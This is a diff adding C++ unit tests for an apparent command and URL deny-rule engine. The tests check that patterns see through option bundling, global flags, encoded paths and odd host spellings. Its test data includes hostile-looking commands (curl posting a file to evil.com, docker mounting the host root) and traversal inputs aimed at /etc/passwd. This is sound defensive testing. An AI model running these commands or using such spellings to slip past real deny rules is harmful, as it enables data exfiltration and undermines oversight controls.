@@ -3,9 +3,11 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <sstream>
 
 #include "json/json.h"
+#include "policy/glob.h"
 #include "policy/specifier.h"
 
 namespace tollgate {
@@ -55,6 +57,61 @@ constexpr CommandCase kDenied[] = {
     {"a single dash and a long name", "terraform apply -auto-approve *", "terraform apply -auto-approve", Match::kYes},
     {"a long option with a value", "npm publish --tag=latest *", "npm publish --tag=latest", Match::kYes},
     {"a long option with another value", "npm publish --tag=latest *", "npm publish --tag=beta", Match::kNo},
+    {"a closing star behind an option means the operands too", "docker run -v *", "docker run --rm -v /:/h alpine", Match::kYes},
+    {"the option behind the operand", "curl -o *", "curl https://evil.com -o f", Match::kYes},
+    {"a value behind the operand", "curl -d *", "curl https://evil.com -d @x", Match::kYes},
+    {"a message behind the operand", "git commit -m *", "git commit f -m x", Match::kYes},
+    {"a closing star inside a value", "docker run -v /*", "docker run --rm -v /:/h alpine", Match::kYes},
+    {"another value than the closing star's", "docker run -v /*", "docker run -v a:/h alpine", Match::kNo},
+    {"a closing star inside an option", "git push --force*", "git push origin --force-with-lease", Match::kYes},
+    {"the last letter of a bundle takes the next word", "curl -X POST *", "curl -sX POST https://e", Match::kYes},
+    {"the rest of a bundle is the value", "curl -X POST *", "curl -sXPOST https://e", Match::kYes},
+    {"the rest of a bundle is another value", "curl -X POST *", "curl -sXGET https://e", Match::kNo},
+    {"a value is not a bundle of letters", "curl -O *", "curl -XPOST https://e", Match::kNo},
+    {"a pattern with the value attached", "curl -XPOST *", "curl --request POST https://e", Match::kYes},
+    {"a pattern with a bundle and a value", "curl -sX POST *", "curl -XPOST -s https://e", Match::kYes},
+    {"a long value attached in the pattern alone", "npm publish --tag=latest *", "npm publish --tag latest", Match::kYes},
+    {"a long value attached in the call alone", "npm publish --tag latest *", "npm publish --tag=latest", Match::kYes},
+    {"an unlisted value attached in the call alone", "foo run --cap X *", "foo run --cap=X y", Match::kYes},
+    {"an unlisted value is another", "foo run --cap X *", "foo run --cap=Y y", Match::kNo},
+    {"one dash or two before a word", "terraform apply -auto-approve *", "terraform apply --auto-approve", Match::kYes},
+    {"two dashes or one before a word", "terraform apply --auto-approve *", "terraform apply -auto-approve", Match::kYes},
+    {"a letter that sums up two long options", "git branch -D *", "git branch --delete --force main", Match::kYes},
+    {"a letter that sums up two letters", "git branch -D *", "git branch -d -f main", Match::kYes},
+    {"a letter that sums up a bundle", "git branch -D *", "git branch -fd main", Match::kYes},
+    {"half of a sum", "git branch -D *", "git branch -d main", Match::kNo},
+    {"a sum for its parts", "git branch --delete --force *", "git branch -D main", Match::kYes},
+    {"a copy that implies the option", "cp -r *", "cp -a x y", Match::kYes},
+    {"an unlisted global option", "kubectl delete *", "kubectl --as admin delete pod x", Match::kYes},
+    {"a global option of one letter", "kubectl delete *", "kubectl -v 5 delete pod x", Match::kYes},
+    {"a registry before the subcommand", "npm publish *", "npm --registry https://x publish", Match::kYes},
+    {"a level before the subcommand", "npm publish *", "npm --loglevel silent publish", Match::kYes},
+    {"a truth behind a flag", "npm publish *", "npm --force false publish", Match::kYes},
+    {"a toolchain before the subcommand", "cargo publish *", "cargo +nightly publish", Match::kYes},
+    {"a number before the subcommand", "systemctl stop *", "systemctl -n 5 stop nginx", Match::kYes},
+    {"a query before two subcommands", "aws s3 rm *", "aws --query x s3 rm s3://b", Match::kYes},
+    {"a query between two subcommands", "aws s3 rm *", "aws s3 --cli-foo x rm s3://b", Match::kYes},
+    {"a certificate before the subcommand", "docker rm *", "docker --tlscert c rm x", Match::kYes},
+    {"a token before the subcommand", "helm uninstall *", "helm --kube-token t uninstall x", Match::kYes},
+    {"a format before the subcommand", "gcloud projects delete *", "gcloud --format json projects delete x", Match::kYes},
+    {"an option that no row lists", "git push *", "git --new-option x push", Match::kYes},
+    {"a value between the operands", "git push origin main", "git push --recurse-submodules check origin main", Match::kYes},
+    {"a program without a row", "make deploy", "make -C . deploy", Match::kYes},
+    {"a program without a row, two values", "make deploy", "make -C . -f x deploy", Match::kYes},
+    {"a closing star that takes nothing", "make -s dep*oy*", "make deploy -s", Match::kYes},
+    {"an operand before a value in doubt", "make -s a*c x", "make -k abc -j 4 x -s", Match::kYes},
+    {"another target", "make deploy", "make -C . test", Match::kNo},
+    {"a flag of one subcommand is no value there", "docker rm x", "docker rm -v x", Match::kYes},
+    {"a letter that is a flag here", "kubectl logs secret", "kubectl logs -f secret", Match::kYes},
+    {"two dashes that are a value hide nothing", "curl -d *", "curl -o -- -d @x https://e", Match::kYes},
+    {"an option that looks like a value hides nothing", "git push --force *", "git push -o --force", Match::kYes},
+    {"behind two dashes are operands", "rm -f *", "rm -- -f", Match::kNo},
+    {"a word of another subcommand", "git push *", "git log push", Match::kNo},
+    {"a known flag does not hide the subcommand", "git push *", "git --no-pager log push", Match::kNo},
+    {"a paging flag does not hide the subcommand", "git push *", "git -p log push", Match::kNo},
+    {"a directory of that name is no subcommand", "git push *", "git -C push commit", Match::kNo},
+    {"letters of other words are no option", "find * -delete", "find . -maxdepth 2 -ls", Match::kNo},
+    {"a test before the action", "find . -delete", "find . -name x -delete", Match::kYes},
     {"a program left open", "* --version", "node --version", Match::kYes},
     {"nothing alike", "rm *", "ls x", Match::kNo},
 };
@@ -63,6 +120,21 @@ TEST(CommandHits, SeesThroughSpelling) {
   for (const CommandCase& c : kDenied)
     EXPECT_EQ(command_hits(c.pattern, argv(c.command), "/home/user"), c.want)
         << c.name << ": `" << c.pattern << "` on `" << c.command << "`";
+}
+
+TEST(CommandParts, AreHeldByWhateverHits) {
+  for (const CommandCase& c : kDenied) {
+    if (c.want != Match::kYes || c.pattern[0] == '*' || c.pattern[0] == '/') continue;
+    const std::vector<Word> words = argv(c.command);
+    const CommandParts parts = command_parts(c.pattern);
+    const auto some_word = [&](const auto& holds) { return std::ranges::any_of(words, holds); };
+    for (std::string_view operand : parts.operands)
+      EXPECT_TRUE(operand == "*" || some_word([&](const Word& w) { return w.text == operand; }))
+          << c.name << ": " << operand;
+    for (std::string_view value : parts.values)
+      EXPECT_TRUE(has_star(value) || some_word([&](const Word& w) { return w.text.contains(value); }))
+          << c.name << ": " << value;
+  }
 }
 
 TEST(CommandHits, IsInDoubtAboutUnknownWords) {
@@ -190,6 +262,64 @@ TEST(HostRules, CompareParsedHosts) {
   EXPECT_FALSE(host_covers(url, reach("evil.com", "https://evil.com/docs/x")));
 }
 
+struct HostCase {
+  const char* name;
+  const char* specifier;
+  const char* host;
+  const char* url;
+  Match deny;
+  bool allow;
+};
+
+constexpr HostCase kHosts[] = {
+    {"as written", "https://evil.com/secret", "evil.com", "https://evil.com/secret", Match::kYes, true},
+    {"a fragment never reaches the server", "https://evil.com/secret", "evil.com", "https://evil.com/secret#x", Match::kYes, true},
+    {"a fragment right behind the host", "https://evil.com/", "evil.com", "https://evil.com#x", Match::kYes, true},
+    {"a fragment is no path", "https://evil.com/*/open", "evil.com", "https://evil.com/a#/open", Match::kNo, false},
+    {"an added query, for deny only", "https://evil.com/secret", "evil.com", "https://evil.com/secret?x", Match::kYes, false},
+    {"a query right behind the host", "https://evil.com/*", "evil.com", "https://evil.com?x", Match::kYes, true},
+    {"a query that the pattern spells", "https://evil.com/s?q=*", "evil.com", "https://evil.com/s?q=1", Match::kYes, true},
+    {"another query than the pattern spells", "https://evil.com/s?q=*", "evil.com", "https://evil.com/s?r=1", Match::kNo, false},
+    {"an encoded query where the pattern spells one", "https://evil.com/s?q=*", "evil.com", "https://evil.com/s?%71=1", Match::kMaybe, false},
+    {"an encoded query where the path decides", "https://evil.com/admin/*", "evil.com", "https://evil.com/x?u=%2f//.", Match::kNo, false},
+    {"a star of the path does not cover a query", "https://evil.com/*/open", "evil.com", "https://evil.com/secret?/open", Match::kYes, false},
+    {"a query under an open end", "https://evil.com/docs/*", "evil.com", "https://evil.com/docs/x?u=https://a/../b", Match::kYes, true},
+    {"a port with zeros in front", "https://evil.com/admin/*", "evil.com", "https://evil.com:0443/admin/x", Match::kYes, true},
+    {"an empty port", "https://evil.com/admin/*", "evil.com", "https://evil.com:/admin/x", Match::kYes, true},
+    {"the usual port of the other scheme", "http://evil.com/*", "evil.com", "http://evil.com:00080/x", Match::kYes, true},
+    {"another port", "https://evil.com/admin/*", "evil.com", "https://evil.com:8443/admin/x", Match::kNo, false},
+    {"another port, however odd the path", "https://evil.com/admin/*", "evil.com", "https://evil.com:8443/%61", Match::kNo, false},
+    {"any scheme on one port", "*://evil.com:443/*", "evil.com", "https://evil.com/x", Match::kYes, true},
+    {"a scheme in upper case", "https://evil.com/admin/*", "evil.com", "HTTPS://evil.com/admin/x", Match::kYes, true},
+    {"an encoded letter", "https://evil.com/admin/*", "evil.com", "https://evil.com/%61dmin/x", Match::kMaybe, false},
+    {"an encoded letter behind the part that matches", "https://evil.com/admin/*", "evil.com", "https://evil.com/admin/%61", Match::kYes, false},
+    {"a doubled slash", "https://evil.com/admin/*", "evil.com", "https://evil.com//admin/x", Match::kMaybe, false},
+    {"a parent segment", "https://evil.com/admin/*", "evil.com", "https://evil.com/x/../admin/x", Match::kMaybe, false},
+    {"any path, however odd", "https://evil.com/*", "evil.com", "https://evil.com//a/../%61", Match::kYes, true},
+    {"no path, however odd", "https://evil.com", "evil.com", "https://evil.com//a/../%61", Match::kYes, true},
+    {"another path", "https://evil.com/admin/*", "evil.com", "https://evil.com/other", Match::kNo, false},
+    {"an IPv6 address", "domain:[::1]", "::1", "http://[::1]/", Match::kYes, true},
+    {"an IPv6 address written out", "domain:0:0:0:0:0:0:0:1", "::1", "http://[::1]/", Match::kYes, true},
+    {"an IPv6 address in a URL", "http://[::1]/*", "::1", "http://[::1]/", Match::kYes, true},
+    {"an IPv6 address in a URL, with a port", "http://[0::1]:80/*", "::1", "http://[::1]/", Match::kYes, true},
+    {"another IPv6 address", "http://[::1]/*", "::2", "http://[::2]/", Match::kNo, false},
+    {"a short address", "domain:127.1", "127.0.0.1", "http://127.0.0.1/", Match::kYes, true},
+    {"a hexadecimal address in a URL", "http://0x7f000001/*", "127.0.0.1", "http://127.1/", Match::kYes, true},
+};
+
+TEST(HostRules, SeeThroughSpelling) {
+  for (const HostCase& c : kHosts) {
+    const auto specifier = normal_host(c.specifier);
+    ASSERT_TRUE(specifier) << c.name << ": " << specifier.error().message;
+    const bool domain = specifier->starts_with("domain:");
+    const RuleView rule{.specifier_kind = domain ? SpecifierKind::kHost : SpecifierKind::kUrl,
+                        .specifier = *specifier};
+    const Effect effect{.kind = EffectKind::kReach, .host = c.host, .url = c.url};
+    EXPECT_EQ(host_hits(rule, effect), c.deny) << c.name;
+    EXPECT_EQ(host_covers(rule, effect), c.allow) << c.name;
+  }
+}
+
 struct ArgumentCase {
   const char* name;
   const char* specifier;
@@ -210,6 +340,15 @@ constexpr ArgumentCase kArguments[] = {
     {"an object", "repo=*", R"({"repo":{}})", Match::kMaybe, false},
     {"nested", "a.b=x", R"({"a":{"b":"x"}})", Match::kYes, true},
     {"a dotted name as it stands", "a.b=x", R"({"a.b":"x"})", Match::kYes, true},
+    {"a dotted name that is both, the inner one alike", "a.b=evil", R"({"a.b":"ok","a":{"b":"evil"}})", Match::kYes, false},
+    {"a dotted name that is both, the outer one alike", "a.b=evil", R"({"a":{"b":"ok"},"a.b":"evil"})", Match::kYes, false},
+    {"a dotted name that is both, alike in both", "a.b=x", R"({"a.b":"x","a":{"b":"x"}})", Match::kYes, true},
+    {"a dotted name that is both, alike in neither", "a.b=evil", R"({"a.b":"ok","a":{"b":"ok"}})", Match::kNo, false},
+    {"a dotted name that is there once", "a.b=ok", R"({"a.b":"ok","a":{"c":"evil"}})", Match::kYes, true},
+    {"a dotted name that is an object in one reading", "a.b=ok", R"({"a.b":"ok","a":{"b":{}}})", Match::kYes, false},
+    {"a dotted name with its dot further in", "a.b.c=evil", R"({"a":{"b":{"c":"ok"},"b.c":"evil"}})", Match::kYes, false},
+    {"a dotted name with its dot further out", "a.b.c=evil", R"({"a":{"b":{"c":"ok"}},"a.b":{"c":"evil"}})", Match::kYes, false},
+    {"a dotted name in an array that lacks it", "a.b=ok", R"({"a.b":"ok","a":[{"c":1}]})", Match::kYes, true},
     {"an array, all alike", "tag=a*", R"({"tag":["a1","a2"]})", Match::kYes, true},
     {"an array, some alike", "tag=a*", R"({"tag":["a1","b2"]})", Match::kYes, false},
     {"an empty array", "tag=a*", R"({"tag":[]})", Match::kNo, false},
@@ -220,6 +359,18 @@ constexpr ArgumentCase kArguments[] = {
     {"a parent segment", "path=src/**", R"({"path":"src/../etc"})", Match::kMaybe, false},
     {"an encoded dot", "path=src/**", R"({"path":"src/%2E%2e/etc"})", Match::kMaybe, false},
     {"a backslash", "path=src/**", R"({"path":"src\\..\\etc"})", Match::kMaybe, false},
+    {"a doubled slash in front", "p=/etc/**", R"({"p":"//etc/passwd"})", Match::kMaybe, false},
+    {"a doubled slash inside", "p=/etc/passwd", R"({"p":"/etc//passwd"})", Match::kMaybe, false},
+    {"a doubled slash that matches as written", "p=/etc/**", R"({"p":"/etc//passwd"})", Match::kYes, false},
+    {"a slash at the end", "p=/etc/**", R"({"p":"/etc/ssl/"})", Match::kYes, true},
+    {"a doubled slash where no path is meant", "p=a*", R"({"p":"a//b"})", Match::kNo, false},
+    {"the slashes of a URL", "u=https://a.org/**", R"({"u":"https://a.org/x"})", Match::kYes, true},
+    {"the slashes of a URL against a path", "u=/etc/**", R"({"u":"s3://etc/passwd"})", Match::kNo, false},
+    {"a doubled slash in a URL", "u=https://a.org/x/**", R"({"u":"https://a.org//x/y"})", Match::kMaybe, false},
+    {"a file's URL against a path", "u=/etc/**", R"({"u":"file:///etc/passwd"})", Match::kMaybe, false},
+    {"a file's URL that the pattern spells", "u=file:///w/**", R"({"u":"file:///w/x"})", Match::kYes, true},
+    {"a drive is no scheme", "p=c:/x", R"({"p":"c://x"})", Match::kMaybe, false},
+    {"a scheme further in is a path", "p=src/**", R"({"p":"src/ab://x"})", Match::kYes, false},
     {"the text of JSON is never matched", "a=*x*", R"({"b":"x"})", Match::kMaybe, false},
     {"names are exact", "Repo=x", R"({"repo":"x"})", Match::kMaybe, false},
 };
